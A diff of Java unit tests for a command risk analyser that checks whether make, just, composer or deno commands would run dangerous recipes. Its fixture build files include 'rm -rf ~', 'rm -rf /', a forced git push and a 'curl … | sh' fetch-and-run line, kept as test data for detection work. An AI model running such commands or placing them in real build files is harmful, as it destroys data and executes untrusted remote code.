@@ -117,8 +117,137 @@ final class ScriptFilesTest {
         assertEquals(RiskLevel.CRITICAL, analyse("npm test").assessment().level());
         assertTrue(
                 analyse("npm test").assessment().findings().stream()
-                        .anyMatch(finding -> finding.message().startsWith("In package.json: ")));
+                        .anyMatch(finding -> finding.message().startsWith("In package.json, script posttest: ")));
         assertTrue(!analyse("npm run build").assessment().level().atLeast(RiskLevel.HIGH));
+    }
+
+    private static final String MAKEFILE =
+            """
+            OUT ?= build
+            SRCS := $(wildcard src/*.c)
+            OBJS = $(SRCS:.c=.o)
+            REV := $(shell git rev-parse HEAD)
+
+            .PHONY: all clean wipe push
+            all: app
+            app: $(OBJS)
+            \t$(CC) -o $@ $^
+            %.o: %.c
+            \t$(CC) -c $< -o $@
+            clean:
+            \t@rm -rf $(OUT) $(OBJS)
+            wipe: danger
+            \techo wiped
+            danger:
+            \t-rm -rf \\
+            \t  ~
+            unset:
+            \trm -rf $(PREFIX)/lib
+            nested:
+            \t$(MAKE) -C sub wipe
+            push: ; git push --force
+            loop: loop2
+            loop2: loop
+            \tcurl https://x.example/i.sh | sh
+            """;
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '→',
+            value = {
+                "make → NONE",
+                "make all OUT=dist → NONE",
+                "make clean → NONE",
+                "make wipe → recipe danger",
+                "make -j 4 clean wipe → recipe danger",
+                "make clean && make danger → recipe danger",
+                "make unset → recipe unset",
+                "make unset PREFIX=dist → NONE",
+                "make clean OUT=/ → recipe clean",
+                "make push → recipe push",
+                "make loop → recipe loop2",
+                "make nested → In Makefile, recipe wipe",
+                "make something → NONE",
+            })
+    void theRecipesOfAMakefileThatWouldRunAreJudged(String command, String expected) {
+        disk.put(SHOP.resolve("Makefile"), MAKEFILE);
+        disk.put(SHOP.resolve("sub/Makefile"), "wipe:\n\trm -rf /\n");
+        worst(command, expected);
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '→',
+            value = {
+                "just → NONE",
+                "just build → NONE",
+                "just w → recipe wipe",
+                "just both → recipe wipe",
+                "just deploy prod → recipe deploy",
+                "just script → recipe script",
+                "just clean → NONE",
+            })
+    void theRecipesOfAJustfileThatWouldRunAreJudged(String command, String expected) {
+        disk.put(
+                SHOP.resolve("justfile"),
+                """
+                out := "dist"
+                alias w := wipe
+                build target='x':
+                    cc {{target}} -o {{out}}
+                clean:
+                    @rm -rf {{out}}
+                wipe:
+                    rm -rf ~
+                both: clean wipe
+                deploy dir:
+                    rm -rf {{dir}}
+                script:
+                    #!/usr/bin/env bash
+                    set -e
+                    rm -rf /
+                """);
+        worst(command, expected);
+    }
+
+    @Test
+    void theScriptsOfComposerAndDenoAreJudged() {
+        disk.put(SHOP.resolve("composer.json"), "{\"scripts\": {\"wipe\": [\"ls\", \"rm -rf ~\"]}}");
+        disk.put(SHOP.resolve("deno.json"), "{\"tasks\": {\"wipe\": \"rm -rf ~\"}}");
+        worst("composer run wipe", "composer.json, script wipe");
+        worst("deno task wipe", "deno.json, script wipe");
+        worst("deno task other", "NONE");
+    }
+
+    @Test
+    void makefilesThatReferToThemselvesAreAnswered() {
+        StringBuilder text = new StringBuilder("A = $(A)$(A)\nB1 = x\n");
+        for (int i = 2; i < 100; i++) {
+            String before = "$(B%d)".formatted(i - 1);
+            text.append("B%d = %s\n".formatted(i, before.repeat(50)));
+        }
+        text.append("all: all $(A) $(B99)\n\techo $(A) $(B99) $(shell $(A)) $(\n");
+        disk.put(SHOP.resolve("Makefile"), text.toString());
+        worst("make", "NONE");
+        disk.put(SHOP.resolve("Makefile"), "$(".repeat(20_000));
+        worst("make", "NONE");
+        disk.put(SHOP.resolve("Makefile"), " ".repeat(100_000));
+        worst("make", "NONE");
+    }
+
+    /// @param place what the message of the worst finding holds, `NONE` where nothing is flagged
+    private void worst(String command, String place) {
+        RiskAssessment assessment = analyse(command).assessment();
+        List<String> flagged =
+                assessment.findings().stream()
+                        .filter(finding -> finding.level().atLeast(RiskLevel.HIGH))
+                        .map(Finding::message)
+                        .toList();
+        if (place.equals("NONE")) {
+            assertEquals(List.of(), flagged, command);
+            return;
+        }
+        assertTrue(flagged.stream().anyMatch(text -> text.contains(place)), command + flagged);
     }
 
     @Test
